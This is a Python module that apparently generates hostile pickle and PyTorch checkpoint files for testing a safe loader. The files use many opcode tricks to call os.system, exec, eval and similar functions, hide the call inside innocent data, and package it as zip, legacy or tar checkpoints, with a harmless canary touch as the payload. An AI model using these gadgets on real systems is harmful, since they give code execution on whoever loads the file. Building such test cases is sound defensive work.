"""Pickles that try to run code: each known form of it, with what it would call, and where in a file it hides.

The payload is `touch CANARY`, said in the way that the function it calls understands.
"""

import io
import pickle
import random
import struct
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path

import torch


def text(value: str) -> bytes:
    return b"X" + struct.pack("<i", len(value.encode())) + value.encode()


def call_targets(canary: Path) -> dict[tuple[str, str], list[str]]:
    """Module and name of a function that can be reached, and the arguments that make it touch the canary."""
    touch, code = f"touch {canary}", f"open({str(canary)!r}, 'w').close()"
    return {
        ("os", "system"): [touch],
        ("posix", "system"): [touch],
        ("subprocess", "getoutput"): [touch],
        ("os", "popen"): [touch],
        ("builtins", "exec"): [code],
        ("builtins", "eval"): [code],
        ("__builtin__", "eval"): [code],
        ("os", "mkdir"): [str(canary)],
        ("builtins", "open"): [str(canary), "w"],
        ("codecs", "open"): [str(canary), "w"],
        ("io", "open"): [str(canary), "w"],
        ("timeit", "timeit"): [code],
        ("cProfile", "run"): [code],
        ("pdb", "run"): [code],
        ("numpy.testing._private.utils", "runstring"): [code, "x"],
        ("torch.utils.collect_env", "run"): [touch],
        ("pathlib", "Path.touch"): [str(canary)],
    }


def by_reduce(module: str, name: str, arguments: list[str]) -> bytes:
    return f"c{module}\n{name}\n".encode() + b"(" + b"".join(map(text, arguments)) + b"tR"


def by_stack_global(module: str, name: str, arguments: list[str]) -> bytes:
    return text(module) + text(name) + b"\x93(" + b"".join(map(text, arguments)) + b"tR"


def by_instance(module: str, name: str, arguments: list[str]) -> bytes:
    return b"(" + b"".join(map(text, arguments)) + f"i{module}\n{name}\n".encode()


def by_object(module: str, name: str, arguments: list[str]) -> bytes:
    return b"(" + f"c{module}\n{name}\n".encode() + b"".join(map(text, arguments)) + b"o"


def by_newobj(module: str, name: str, arguments: list[str]) -> bytes:
    return f"c{module}\n{name}\n".encode() + b"(" + b"".join(map(text, arguments)) + b"t\x81"


def by_newobj_ex(module: str, name: str, arguments: list[str]) -> bytes:
    return f"c{module}\n{name}\n".encode() + b"(" + b"".join(map(text, arguments)) + b"t}\x92"


def by_build(module: str, name: str, arguments: list[str]) -> bytes:
    """An object whose __setstate__ is the function."""
    return (
        b"ccollections\nOrderedDict\n)R}"
        + text("__setstate__")
        + f"c{module}\n{name}\n".encode()
        + b"sb"
        + text(arguments[0])
        + b"b"
    )


def by_array_build(module: str, name: str, arguments: list[str]) -> bytes:
    """An array of objects, of which one is a call."""
    return (
        b"cnumpy._core.multiarray\n_reconstruct\n(cnumpy\nndarray\nK\x00\x85C\x01btR(K\x01K\x01\x85cnumpy\ndtype\n(X\x02\x00\x00\x00O8"
        b"\x89\x88tR(K\x03X\x01\x00\x00\x00|NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK?tb\x89]"
        + by_reduce(module, name, arguments)
        + b"atb"
    )


def by_getattr(module: str, name: str, arguments: list[str]) -> bytes:
    """The function is fetched from its module by a call."""
    first, _, _ = name.partition(".")
    return (
        b"cbuiltins\ngetattr\n(cimportlib\nimport_module\n"
        + text(module)
        + b"\x85R"
        + text(first)
        + b"tR("
        + b"".join(map(text, arguments))
        + b"tR"
    )


def by_pickle_in_pickle(module: str, name: str, arguments: list[str]) -> bytes:
    inside = b"\x80\x04" + by_reduce(module, name, arguments) + b"."
    return b"c_pickle\nloads\nB" + struct.pack("<i", len(inside)) + inside + b"\x85R"


def by_tensor(module: str, name: str, arguments: list[str]) -> bytes:
    """A call among the arguments of a rebuilding that PyTorch allows."""
    return (
        b"ctorch._utils\n_rebuild_parameter\n("
        + by_reduce(module, name, arguments)
        + b"\x89ccollections\nOrderedDict\n)RtR"
    )


def by_persistent_id(module: str, name: str, arguments: list[str]) -> bytes:
    return b"(" + text("storage") + by_reduce(module, name, arguments) + text("0") + text("cpu") + b"K\x01tQ"


def by_extension(module: str, name: str, arguments: list[str]) -> bytes:
    """The registry of extension codes."""
    return (
        b"ccopyreg\nadd_extension\n("
        + text(module)
        + text(name)
        + b"K\x07tR0\x82\x07("
        + b"".join(map(text, arguments))
        + b"tR"
    )


FORMS: dict[str, Callable[[str, str, list[str]], bytes]] = {
    "reduce": by_reduce,
    "stack global": by_stack_global,
    "inst": by_instance,
    "obj": by_object,
    "newobj": by_newobj,
    "newobj_ex": by_newobj_ex,
    "build": by_build,
    "array of objects": by_array_build,
    "getattr": by_getattr,
    "pickle in a pickle": by_pickle_in_pickle,
    "rebuilt tensor": by_tensor,
    "persistent id": by_persistent_id,
    "extension": by_extension,
}

HIDING: dict[str, Callable[[bytes, bytes], bytes]] = {  # a gadget's opcodes, and those of an innocent dictionary
    "instead of all": lambda gadget, rest: gadget,
    "before all": lambda gadget, rest: gadget + b"0" + rest,
    "after all": lambda gadget, rest: rest + gadget + b"0",
    "a value": lambda gadget, rest: rest + text("more") + gadget + b"s",
    "a key": lambda gadget, rest: rest + gadget + b"K\x01s",
    "nested deep": lambda gadget, rest: rest + text("more") + b"]" * 20 + gadget + b"a" * 20 + b"s",
    "in a dictionary in a tuple": lambda gadget, rest: rest + text("more") + b"}" + text("x") + gadget + b"s\x85s",
    "with a frame": lambda gadget, rest: (
        b"\x95" + struct.pack("<Q", len(gadget) + len(rest) + 1) + gadget + b"0" + rest
    ),
}


def opcodes(value: object) -> bytes:
    """A pickle without its first and last opcode."""
    return pickle.dumps(value, 2)[2:-1]


def hostile_pickle(innocent: dict, canary: Path, rng: random.Random) -> tuple[str, bytes]:
    """What it is called, and its bytes."""
    form, place = rng.choice(list(FORMS)), rng.choice(list(HIDING))
    (module, name), arguments = rng.choice(list(call_targets(canary).items()))
    gadget = FORMS[form](module, name, arguments)
    protocol = 4 if form in ("stack global", "newobj_ex") or place == "with a frame" else 2
    return f"{module}.{name} by {form}, {place}", b"\x80" + bytes([protocol]) + HIDING[place](
        gadget, opcodes(innocent)
    ) + b"."


class Gadget:
    """What Python's own pickler makes of a hostile object."""

    def __init__(self, canary: Path):
        self.canary = canary

    def __reduce__(self) -> tuple:
        return Path.write_text, (self.canary, "owned")


def zipped(name: str, pickled: bytes) -> bytes:
    """A checkpoint as PyTorch writes it, with this pickle inside."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        for part, content in (("data.pkl", pickled), ("byteorder", b"little"), ("version", b"3\n")):
            archive.writestr(f"{name}/{part}", content)
    return file.getvalue()


def legacy(pickled: bytes) -> bytes:
    """As PyTorch wrote it before 1.6."""
    head = [0x1950A86A20F9469CFC6C, 1001, {"protocol_version": 1001, "little_endian": True, "type_sizes": {}}]
    return b"".join(pickle.dumps(part, 2) for part in head) + pickled + pickle.dumps([], 2)


def tarred(pickled: bytes) -> bytes:
    """As PyTorch wrote it before 0.1.10."""
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w") as archive:
        for name in ("storages", "tensors", "pickle"):
            part = tarfile.TarInfo(name)
            part.size = len(pickled)
            archive.addfile(part, io.BytesIO(pickled))
    return file.getvalue()


CONTAINERS: dict[str, Callable[[bytes], bytes]] = {
    "zip": lambda pickled: zipped("archive", pickled),
    "legacy": legacy,
    "bare pickle": lambda pickled: pickled,
    "tar": tarred,
}


def hostile_checkpoint(state: dict, canary: Path, rng: random.Random) -> tuple[str, bytes]:
    """Return its name and bytes: PyTorch's own file of a state with a hostile object in it, or a hand-made one."""
    if rng.random() < 0.3:
        file, key = io.BytesIO(), rng.choice(list(state))
        new = rng.random() < 0.5
        torch.save(
            {
                **state,
                rng.choice([key, "more"]): rng.choice([Gadget(canary), [[Gadget(canary)]], {"x": Gadget(canary)}]),
            },
            file,
            _use_new_zipfile_serialization=new,
        )
        return f"torch.save of an object beside or instead of {key}, {'zip' if new else 'legacy'}", file.getvalue()
    container = rng.choice(list(CONTAINERS))
    name, content = hostile_pickle({"epoch": 1}, canary, rng)
    return f"{name}, {container}", CONTAINERS[container](content)
